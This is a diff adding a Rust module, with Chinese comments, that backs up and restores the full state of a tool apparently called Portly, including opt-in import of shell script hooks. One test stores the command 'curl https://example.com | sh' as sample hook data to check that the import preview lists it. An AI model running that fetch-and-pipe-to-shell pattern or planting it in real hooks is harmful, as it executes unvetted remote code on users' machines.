@@ -0,0 +1,308 @@
+//! 完整状态备份与恢复
+//!
+//! 把设置、CLI 配置（含端口组合）、规则、定时任务、自定义端口、导出预设、资产清单和扫描历史打包为
+//! 一个 gzip 压缩的 JSON 文件，用于迁移到另一台机器或定期备份。导入时先校验全部内容，
+//! 再替换各项配置并合并扫描历史（已有的时间戳跳过）。插件脚本可以执行任意命令，
+//! 不包含在备份中，日志也不备份。设置中的脚本钩子同样会通过 shell 执行，默认不导入、
+//! 保留本机原有的钩子，只有显式选择后才安装备份中的钩子
+
+use crate::app_error::{AppError, AppResult};
+use crate::config::{self, PortlyConfig};
+use crate::export::{self, ExportPreset, HistoryStore, ScanHistoryEntry};
+use crate::inventory::{self, InventoryEntry};
+use crate::known_ports::{self, PortEntry};
+use crate::rules::{self, Rule};
+use crate::scheduler::{self, ScheduledJob};
+use crate::settings::{self, ScriptHookSettings, Settings};
+use flate2::read::GzDecoder;
+use flate2::write::GzEncoder;
+use flate2::Compression;
+use serde::{Deserialize, Serialize};
+use std::io::{Read, Write};
+
+/// 备份文件标识
+pub const BACKUP_FORMAT: &str = "portly-backup";
+/// 备份格式版本，新增字段时保持兼容，不兼容的修改才增加
+pub const BACKUP_VERSION: u32 = 1;
+
+/// 备份内容
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct Backup {
+    pub format: String,
+    pub version: u32,
+    pub created_at: String,
+    pub app_version: String,
+    pub settings: Settings,
+    pub config: PortlyConfig,
+    pub rules: Vec<Rule>,
+    pub schedules: Vec<ScheduledJob>,
+    pub known_ports: Vec<PortEntry>,
+    pub export_presets: Vec<ExportPreset>,
+    pub inventory: Vec<InventoryEntry>,
+    pub history: Vec<ScanHistoryEntry>,
+}
+
+/// 各部分的条数
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct BackupSummary {
+    pub rules: usize,
+    pub schedules: usize,
+    pub known_ports: usize,
+    pub export_presets: usize,
+    pub inventory: usize,
+    pub history: usize,
+}
+
+/// 导入前展示的备份概况
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct BackupPreview {
+    pub created_at: String,
+    pub app_version: String,
+    pub summary: BackupSummary,
+    /// 备份中的脚本钩子，导入前需要让用户看到将要执行的命令
+    pub hooks: Vec<ScriptHookSettings>,
+}
+
+/// 导入结果
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct BackupImportResult {
+    pub created_at: String,
+    pub app_version: String,
+    pub summary: BackupSummary,
+    /// 新增的历史扫描数
+    pub history_imported: usize,
+    /// 已存在而跳过的历史扫描数
+    pub history_skipped: usize,
+    /// 安装的脚本钩子数
+    pub hooks_imported: usize,
+    /// 未选择导入而忽略的脚本钩子数
+    pub hooks_skipped: usize,
+}
+
+impl Backup {
+    /// 读取当前的全部状态
+    pub fn collect() -> AppResult<Self> {
+        Ok(Self {
+            format: BACKUP_FORMAT.to_string(),
+            version: BACKUP_VERSION,
+            created_at: chrono::Local::now().to_rfc3339(),
+            app_version: env!("CARGO_PKG_VERSION").to_string(),
+            settings: settings::load_settings()?,
+            config: config::load_config()?,
+            rules: rules::load_rules()?,
+            schedules: scheduler::load_jobs()?,
+            known_ports: known_ports::load_user_ports()?,
+            export_presets: export::load_export_presets(),
+            inventory: inventory::load_inventory()?,
+            history: export::load_scan_history(),
+        })
+    }
+
+    pub fn summary(&self) -> BackupSummary {
+        BackupSummary {
+            rules: self.rules.len(),
+            schedules: self.schedules.len(),
+            known_ports: self.known_ports.len(),
+            export_presets: self.export_presets.len(),
+            inventory: self.inventory.len(),
+            history: self.history.len(),
+        }
+    }
+
+    /// 校验备份标识、版本和各部分内容，任何一项不合法都不导入
+    pub fn validate(&self) -> AppResult<()> {
+        if self.format != BACKUP_FORMAT {
+            return Err(AppError::validation("备份文件", "不是 Portly 备份"));
+        }
+        if self.version == 0 || self.version > BACKUP_VERSION {
+            return Err(AppError::validation("备份版本", "不受支持，请升级 Portly"));
+        }
+        self.settings.validate()?;
+        for rule in &self.rules {
+            rule.validate()?;
+        }
+        for job in &self.schedules {
+            job.validate()?;
+        }
+        for entry in &self.known_ports {
+            entry.validate()?;
+        }
+        for entry in &self.inventory {
+            entry.validate()?;
+        }
+        if self.export_presets.iter().any(|p| p.name.trim().is_empty()) {
+            return Err(AppError::validation("导出预设名称", "不能为空"));
+        }
+        Ok(())
+    }
+
+    /// 编码为 gzip 压缩的 JSON
+    pub fn encode(&self) -> AppResult<Vec<u8>> {
+        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
+        serde_json::to_writer(&mut encoder, self)
+            .map_err(|e| AppError::internal(format!("序列化备份失败: {}", e)))?;
+        encoder
+            .finish()
+            .map_err(|e| AppError::internal(format!("压缩备份失败: {}", e)))
+    }
+
+    pub fn preview(&self) -> BackupPreview {
+        BackupPreview {
+            created_at: self.created_at.clone(),
+            app_version: self.app_version.clone(),
+            summary: self.summary(),
+            hooks: self.settings.hooks.clone(),
+        }
+    }
+
+    /// 解码备份，也接受解压后的 JSON
+    pub fn decode(bytes: &[u8]) -> AppResult<Self> {
+        let mut content = Vec::new();
+        let content = if bytes.starts_with(&[0x1f, 0x8b]) {
+            GzDecoder::new(bytes)
+                .read_to_end(&mut content)
+                .map_err(|e| AppError::validation("备份文件", format!("解压失败: {}", e)))?;
+            &content
+        } else {
+            bytes
+        };
+        serde_json::from_slice(content).map_err(|e| AppError::validation("备份文件", e.to_string()))
+    }
+}
+
+/// 导出完整状态到文件，返回各部分的条数
+#[tracing::instrument(level = "info")]
+pub fn export_backup(path: &str) -> AppResult<BackupSummary> {
+    let backup = Backup::collect()?;
+    let bytes = backup.encode()?;
+    let mut file = std::fs::File::create(path)
+        .map_err(|e| AppError::internal(format!("创建备份文件失败: {}", e)))?;
+    file.write_all(&bytes)
+        .map_err(|e| AppError::internal(format!("写入备份文件失败: {}", e)))?;
+    let summary = backup.summary();
+    tracing::info!(
+        path,
+        bytes = bytes.len(),
+        history = summary.history,
+        "备份已导出"
+    );
+    Ok(summary)
+}
+
+/// 读取并校验备份文件
+fn read_backup(path: &str) -> AppResult<Backup> {
+    let bytes =
+        std::fs::read(path).map_err(|e| AppError::internal(format!("读取备份文件失败: {}", e)))?;
+    let backup = Backup::decode(&bytes)?;
+    backup.validate()?;
+    Ok(backup)
+}
+
+/// 读取备份概况，不修改任何内容
+pub fn preview_backup(path: &str) -> AppResult<BackupPreview> {
+    read_backup(path).map(|backup| backup.preview())
+}
+
+/// 从文件恢复：替换设置、配置、规则、定时任务、自定义端口、导出预设和资产清单，合并扫描历史。
+/// `with_hooks` 为假时忽略备份中的脚本钩子，保留本机现有的钩子
+#[tracing::instrument(level = "info")]
+pub fn import_backup(path: &str, with_hooks: bool) -> AppResult<BackupImportResult> {
+    let backup = read_backup(path)?;
+
+    let mut restored = backup.settings.clone();
+    let (hooks_imported, hooks_skipped) = if with_hooks {
+        (restored.hooks.len(), 0)
+    } else {
+        restored.hooks = settings::load_settings()?.hooks;
+        (0, backup.settings.hooks.len())
+    };
+    settings::save_settings(&restored)?;
+    config::save_config(&backup.config)?;
+    rules::save_rules(&backup.rules)?;
+    scheduler::save_jobs(&backup.schedules)?;
+    known_ports::save_user_ports(&backup.known_ports)?;
+    export::write_export_presets(&backup.export_presets).map_err(AppError::internal)?;
+    inventory::save_inventory(&backup.inventory)?;
+    let (history_imported, history_skipped) = HistoryStore::open()
+        .insert(backup.history.clone())
+        .map_err(AppError::internal)?;
+
+    let result = BackupImportResult {
+        created_at: backup.created_at.clone(),
+        app_version: backup.app_version.clone(),
+        summary: backup.summary(),
+        history_imported,
+        history_skipped,
+        hooks_imported,
+        hooks_skipped,
+    };
+    tracing::info!(
+        path,
+        imported = history_imported,
+        hooks_imported,
+        hooks_skipped,
+        "备份已导入"
+    );
+    Ok(result)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_encode_decode_round_trip() {
+        let backup = Backup {
+            format: BACKUP_FORMAT.to_string(),
+            version: BACKUP_VERSION,
+            known_ports: vec![PortEntry {
+                port: 8123,
+                name: "Home Assistant".to_string(),
+                category: None,
+                disabled: false,
+            }],
+            ..Default::default()
+        };
+        let bytes = backup.encode().unwrap();
+        assert_eq!(&bytes[..2], &[0x1f, 0x8b]);
+        let decoded = Backup::decode(&bytes).unwrap();
+        assert!(decoded.validate().is_ok());
+        assert_eq!(decoded.summary().known_ports, 1);
+
+        // 解压后的 JSON 也能导入，缺失的部分使用默认值
+        let plain = r#"{"format": "portly-backup", "version": 1}"#;
+        assert!(Backup::decode(plain.as_bytes()).unwrap().validate().is_ok());
+    }
+
+    #[test]
+    fn test_validate_rejects_foreign_or_newer_files() {
+        let backup = Backup::decode(br#"{"version": 1}"#).unwrap();
+        assert!(backup.validate().is_err());
+        let newer = Backup {
+            format: BACKUP_FORMAT.to_string(),
+            version: BACKUP_VERSION + 1,
+            ..Default::default()
+        };
+        assert!(newer.validate().is_err());
+        assert!(Backup::decode(b"not a backup").is_err());
+    }
+
+    #[test]
+    fn test_preview_lists_hook_commands() {
+        let mut backup = Backup {
+            format: BACKUP_FORMAT.to_string(),
+            version: BACKUP_VERSION,
+            ..Default::default()
+        };
+        backup.settings.hooks.push(ScriptHookSettings {
+            name: "notify".to_string(),
+            command: "curl https://example.com | sh".to_string(),
+            ..Default::default()
+        });
+        let decoded = Backup::decode(&backup.encode().unwrap()).unwrap();
+        let preview = decoded.preview();
+        assert_eq!(preview.hooks.len(), 1);
+        assert_eq!(preview.hooks[0].command, "curl https://example.com | sh");
+    }
+}